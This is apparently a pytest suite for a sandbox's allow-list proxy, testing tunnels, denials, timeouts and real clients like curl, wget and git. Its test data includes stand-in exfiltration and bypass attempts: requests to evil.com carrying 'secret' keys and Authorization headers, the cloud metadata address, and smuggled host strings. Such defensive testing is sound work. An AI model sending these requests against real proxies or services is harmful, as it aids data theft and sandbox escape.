"""A proxy that connects to what is on its list, whatever is done to it."""

from __future__ import annotations

import asyncio
import os
import resource
import shutil
import socket
import subprocess
import sys
from collections.abc import AsyncGenerator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager, suppress
from ipaddress import ip_address
from pathlib import Path

import pytest

from holdfast.confine.proxy.proxy_loop import FilteringProxy, ProxyLimits, Resolve, resolve
from holdfast.confine.proxy.rules import Address, DenialReason, Stopped, allow_list

pytestmark = pytest.mark.anyio

Handler = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
LOCAL = "127.0.0.1"
BRIEF = ProxyLimits(ask_longest=0.3, dial_longest=2.0, idle_longest=0.5, linger_longest=1.0)


async def names(name: str) -> Sequence[Address]:
    """A resolver whose names are all on this machine, but for those that are nowhere."""
    if name == "nowhere.example":
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
    return [ip_address({"v6.example": "::1"}.get(name, LOCAL))]


@asynccontextmanager
async def serving(handler: Handler) -> AsyncGenerator[int]:
    """A server on a port of this machine."""
    async with await asyncio.start_server(handler, LOCAL, 0, limit=2**20) as server:
        yield server.sockets[0].getsockname()[1]


@asynccontextmanager
async def proxying(
    *rules: str, limits: ProxyLimits | None = None, resolve: Resolve = names
) -> AsyncGenerator[tuple[FilteringProxy, int]]:
    """A proxy with this list, and its port."""
    proxy = FilteringProxy(allow_list(*rules), resolve=resolve, limits=limits)
    with socket.create_server((LOCAL, 0), backlog=512) as listener:
        task = asyncio.create_task(proxy.serve(listener))
        try:
            yield proxy, listener.getsockname()[1]
        finally:
            task.cancel()
            with suppress(asyncio.CancelledError):
                await task


async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await reader.read(65536):
        writer.write(data)
        await writer.drain()
    writer.close()


async def web(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer with the head that was received."""
    head = await reader.readuntil(b"\r\n\r\n")
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(head) + head)
    await writer.drain()
    writer.close()


async def said(port: int, data: bytes) -> bytes:
    """All that the proxy answers to these bytes."""
    reader, writer = await asyncio.open_connection(LOCAL, port)
    with suppress(ConnectionError):
        writer.write(data)
        await writer.drain()
    try:
        async with asyncio.timeout(10):
            return await reader.read(-1)
    finally:
        writer.close()


def connect(host: str) -> bytes:
    return f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def socks(host: bytes, port: int) -> bytes:
    return (
        b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes((len(host),)) + host + port.to_bytes(2, "big")
    )


async def test_a_tunnel_carries_both_ways_to_the_end() -> None:
    async with (
        serving(echo) as there,
        proxying(f"a.example:{there}", f"{LOCAL}:{there}") as (
            proxy,
            port,
        ),
    ):
        reader, writer = await asyncio.open_connection(LOCAL, port)
        writer.write(connect(f"a.example:{there}"))
        assert await reader.readuntil(b"\r\n\r\n") == b"HTTP/1.1 200 Connected\r\n\r\n"
        sent = os.urandom(2_000_000)
        got = asyncio.create_task(reader.read(-1))
        writer.write(sent)
        await writer.drain()
        writer.write_eof()
        assert await got == sent
        writer.close()

    assert proxy.traffic.reached == ((f"a.example:{there}", 1),)
    assert proxy.traffic.stopped == ()


async def test_socks_carries_names() -> None:
    async with (
        serving(echo) as there,
        proxying(f"a.example:{there}", f"{LOCAL}:{there}") as (
            _,
            port,
        ),
    ):
        reader, writer = await asyncio.open_connection(LOCAL, port)
        writer.write(socks(b"a.example", there) + b"hello")
        writer.write_eof()
        assert await reader.read(-1) == b"\x05\x00" + b"\x05\x00\x00\x01" + bytes(6) + b"hello"
        writer.close()


async def test_a_whole_url_is_passed_on() -> None:
    async with (
        serving(web) as there,
        proxying(f"a.example:{there}", f"{LOCAL}:{there}") as (
            _,
            port,
        ),
    ):
        url = f"http://a.example:{there}/path"
        answer = await said(port, f"GET {url} HTTP/1.1\r\nHost: evil.example\r\n\r\n".encode())

    assert answer.endswith(
        f"GET /path HTTP/1.1\r\nHost: a.example:{there}\r\nConnection: close\r\n\r\n".encode()
    )


@pytest.mark.promise("C14")
@pytest.mark.parametrize(
    ("request_bytes", "stopped"),
    [
        (connect("evil.com:443"), Stopped("evil.com:443", DenialReason.UNLISTED, 1)),
        (
            connect("a.example.evil.com:443"),
            Stopped("a.example.evil.com:443", DenialReason.UNLISTED, 1),
        ),
        (connect("169.254.169.254:80"), Stopped("169.254.169.254:80", DenialReason.UNLISTED, 1)),
        (connect("127.0.0.1:80"), Stopped("127.0.0.1:80", DenialReason.UNLISTED, 1)),
        (connect("[::ffff:127.0.0.1]:80"), Stopped("127.0.0.1:80", DenialReason.UNLISTED, 1)),
        (connect("a.example:443"), Stopped("a.example:443", DenialReason.NEARBY, 1)),
        (connect("v6.example:443"), Stopped("v6.example:443", DenialReason.NEARBY, 1)),
        (connect("0x7f.1:443"), Stopped("", DenialReason.UNCLEAR, 1)),
        (connect("me:secret@a.example:443"), Stopped("", DenialReason.UNCLEAR, 1)),
        (connect("evil.com#a.example:443"), Stopped("", DenialReason.UNCLEAR, 1)),
        (socks(b"a.example\0.evil.com", 443), Stopped("", DenialReason.UNCLEAR, 1)),
        (socks(b"evil.com", 443), Stopped("evil.com:443", DenialReason.UNLISTED, 1)),
        (b"\x05\x01\x02", Stopped("", DenialReason.UNCLEAR, 1)),
        (b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00\r\n\r\n", Stopped("", DenialReason.UNCLEAR, 1)),
        (
            b"GET http://evil.com/?key=secret HTTP/1.1\r\nAuthorization: secret\r\n\r\n",
            Stopped("evil.com:80", DenialReason.UNLISTED, 1),
        ),
    ],
)
async def test_what_is_not_on_the_list_is_stopped_and_noted(
    request_bytes: bytes, stopped: Stopped
) -> None:
    async with proxying("a.example", "v6.example") as (proxy, port):
        answer = await said(port, request_bytes)

    assert answer.startswith((b"HTTP/1.1 40", b"\x05"))
    assert not answer.endswith(b"\x05\x00\x00\x01" + bytes(6))
    assert proxy.traffic.stopped == (stopped,)
    assert proxy.traffic.reached == ()
    assert b"secret" not in answer


@pytest.mark.promise("C20")
async def test_an_empty_list_stops_everything() -> None:
    async with serving(echo) as there, proxying() as (proxy, port):
        for host in (f"a.example:{there}", f"{LOCAL}:{there}", "example.org:443"):
            assert (await said(port, connect(host))).startswith(b"HTTP/1.1 403 ")

    assert len(proxy.traffic.stopped) == 3


@pytest.mark.promise("C14")
async def test_a_redirect_is_for_the_client_to_follow_and_stopped_like_anything_else() -> None:
    async def redirect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 302 Found\r\nLocation: http://evil.com/\r\n\r\n")
        writer.close()

    async with serving(redirect) as there, proxying(f"{LOCAL}:{there}") as (proxy, port):
        argv = ["curl", "-sSL", "-x", f"http://{LOCAL}:{port}", f"http://{LOCAL}:{there}/"]
        out = await ran(argv)

    assert out == (0, "holdfast: evil.com:80 is not on the list of this sandbox\n")
    assert proxy.traffic.stopped == (Stopped("evil.com:80", DenialReason.UNLISTED, 1),)


@pytest.mark.promise("C14")
async def test_a_name_is_resolved_once_and_only_if_it_is_listed() -> None:
    asked: list[str] = []

    async def changing(name: str) -> Sequence[Address]:
        """First what may be used beside what may not, then only what may not."""
        asked.append(name)
        return [ip_address(each) for each in (["10.0.0.1", LOCAL] if len(asked) == 1 else ["::1"])]

    async with (
        serving(web) as there,
        proxying(f"a.example:{there}", f"{LOCAL}:{there}", resolve=changing) as (proxy, port),
    ):
        url = f"http://a.example:{there}/"
        request = f"GET {url} HTTP/1.1\r\n\r\n".encode()
        first, second = await said(port, request), await said(port, request)
        await said(port, connect("secret.evil.com:443"))

    assert first.startswith(b"HTTP/1.1 200 ")
    assert second.startswith(b"HTTP/1.1 403 ")
    assert asked == ["a.example", "a.example"]
    assert proxy.traffic.stopped == (
        Stopped(f"a.example:{there}", DenialReason.NEARBY, 1),
        Stopped("secret.evil.com:443", DenialReason.UNLISTED, 1),
    )


async def test_a_host_that_is_not_there_is_no_fault_of_the_list() -> None:
    with socket.socket() as unused:
        unused.bind((LOCAL, 0))
        closed = unused.getsockname()[1]
    async with proxying("nowhere.example", f"{LOCAL}:{closed}") as (proxy, port):
        for host in ("nowhere.example:443", f"{LOCAL}:{closed}"):
            assert (await said(port, connect(host))).startswith(b"HTTP/1.1 502 ")

    assert proxy.traffic.stopped == proxy.traffic.reached == ()


async def test_a_head_of_ten_megabytes_is_refused_and_not_kept() -> None:
    async with proxying() as (_, port):
        head = b"GET http://a.example/ HTTP/1.1\r\nX: " + b"x" * 10_000_000
        answer = await said(port, head)

    assert answer.startswith(b"HTTP/1.1 431 ")


async def test_whoever_asks_too_slowly_is_sent_away() -> None:
    async with proxying(limits=BRIEF) as (_, port):
        reader, writer = await asyncio.open_connection(LOCAL, port)

        async def drip() -> None:
            with suppress(ConnectionError):
                for byte in b"GET http://a.example/ HTTP/1.1\r\n" * 100:
                    writer.write(bytes((byte,)))
                    await writer.drain()
                    await asyncio.sleep(0.02)

        dripping = asyncio.create_task(drip())
        answer = await reader.read(-1)
        dripping.cancel()
        writer.close()

    assert answer.startswith(b"HTTP/1.1 408 ")


async def test_a_tunnel_in_which_nothing_moves_is_ended() -> None:
    limits = ProxyLimits(idle_longest=0.5)
    async with serving(echo) as there, proxying(f"{LOCAL}:{there}", limits=limits) as (_, port):
        reader, writer = await asyncio.open_connection(LOCAL, port)
        writer.write(connect(f"{LOCAL}:{there}"))
        async with asyncio.timeout(60):
            assert await reader.read(-1) == b"HTTP/1.1 200 Connected\r\n\r\n"
        writer.close()


async def test_a_reader_that_stops_holds_up_the_writer_and_nobody_else() -> None:
    sent = 0

    async def flood(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal sent
        with suppress(ConnectionError):
            while True:
                writer.write(bytes(65536))
                await writer.drain()
                sent += 65536

    async with serving(flood) as there, proxying(f"{LOCAL}:{there}") as (_, port):
        stuck = socket.create_connection((LOCAL, port))
        stuck.sendall(connect(f"{LOCAL}:{there}"))
        before = -1
        while before != sent or not sent:  # until it has moved, and nothing moves any more
            before = sent
            await asyncio.sleep(0.3)
        assert 0 < sent < 32 * 2**20
        assert (await said(port, connect("evil.com:443"))).startswith(b"HTTP/1.1 403 ")
        stuck.close()


async def test_a_thousand_connections_are_served_in_turn() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < 4000:
        pytest.skip("this machine allows too few descriptors")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 4000), hard))
    limits = ProxyLimits(connections_max=64, ask_longest=1.0, linger_longest=0.1)
    async with proxying(limits=limits) as (proxy, port):
        silent = [await asyncio.open_connection(LOCAL, port) for _ in range(300)]
        answers = await asyncio.gather(
            *(said(port, connect(f"h{number}.example:443")) for number in range(200))
        )
        for _, writer in silent:
            writer.close()
        more = [await said(port, connect("evil.com:443")) for _ in range(500)]

    assert all(answer.startswith(b"HTTP/1.1 403 ") for answer in [*answers, *more])
    assert len(proxy.traffic.stopped) == 100
    assert proxy.traffic.unnamed >= 100


async def test_half_open_clients_and_garbage_leave_nothing_behind() -> None:
    before = len(os.listdir("/proc/self/fd"))
    async with serving(echo) as there, proxying(f"{LOCAL}:{there}", limits=BRIEF) as (_, port):
        for garbage in (
            b"",
            b"\x05",
            b"\x05\xff",
            b"\x05\x01\x00\x05\x01\x00\x03\xff",
            b"\r\n\r\n",
        ):
            client = socket.create_connection((LOCAL, port))
            client.sendall(garbage)
            client.close()
        for _ in range(20):  # gone without a word
            client = socket.create_connection((LOCAL, port))
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            client.sendall(connect(f"{LOCAL}:{there}"))
            client.close()
        assert (await said(port, connect("evil.com:443"))).startswith(b"HTTP/1.1 403 ")
    await asyncio.sleep(0)

    assert len(os.listdir("/proc/self/fd")) <= before + 2


async def test_names_are_resolved_by_the_machine() -> None:
    assert ip_address(LOCAL) in await resolve("localhost")


async def ran(argv: Sequence[str], **env: str) -> tuple[int, str]:
    """Run a client to its end, without any settings of this machine."""
    process = await asyncio.create_subprocess_exec(
        *argv,
        env={"PATH": os.environ["PATH"], "HOME": "/nonexistent", **env},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    out, _ = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode is not None
    return process.returncode, out.decode()


FETCH = "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode())"


@pytest.mark.parametrize(
    "argv",
    [
        ["curl", "-sS", "URL"],
        ["curl", "-sSp", "URL"],  # by CONNECT
        ["curl", "-sS", "-x", "socks5h://PROXY", "URL"],
        ["wget", "-qO-", "URL"],
        [sys.executable, "-c", FETCH, "URL"],
    ],
)
async def test_real_clients_come_through(argv: list[str]) -> None:
    if shutil.which(argv[0]) is None:
        pytest.skip(f"{argv[0]} is not installed")
    async with (
        serving(web) as there,
        proxying(f"a.example:{there}", f"{LOCAL}:{there}") as (
            proxy,
            port,
        ),
    ):
        url, address = f"http://a.example:{there}/path", f"{LOCAL}:{port}"
        words = [word.replace("URL", url).replace("PROXY", address) for word in argv]
        status, out = await ran(words, http_proxy=f"http://{address}")

    assert (status, out.splitlines()[:2]) == (0, ["GET /path HTTP/1.1", f"Host: a.example:{there}"])
    assert proxy.traffic.reached == ((f"a.example:{there}", 1),)


async def test_git_clones_through_it_and_is_stopped_by_it(tmp_path: Path) -> None:
    origin = tmp_path / "origin"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b"]
    assert (await ran([*git, "init", "-q", str(origin)]))[0] == 0
    commit = [*git, "-C", str(origin), "commit", "-qm", "x", "--allow-empty"]
    assert (await ran(commit))[0] == 0
    assert (await ran([*git, "-C", str(origin), "update-server-info"]))[0] == 0
    files = [sys.executable, "-u", "-m", "http.server", "--bind", LOCAL, "0"]
    server = await asyncio.create_subprocess_exec(
        *files, cwd=origin / ".git", stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    )
    assert server.stdout is not None
    there = int((await server.stdout.readline()).split()[5])
    try:
        async with proxying(f"a.example:{there}", f"{LOCAL}:{there}") as (proxy, port):
            proxied = {"http_proxy": f"http://{LOCAL}:{port}"}
            clone = [*git, "clone", "-q", f"http://a.example:{there}/", str(tmp_path / "copy")]
            cloned = await ran(clone, **proxied)
            status, complaint = await ran([*git, "ls-remote", "http://evil.com/x"], **proxied)
    finally:
        server.kill()
        await server.wait()

    assert cloned == (0, "")
    assert status == 128
    assert "403" in complaint
    assert proxy.traffic.stopped == (Stopped("evil.com:80", DenialReason.UNLISTED, 1),)
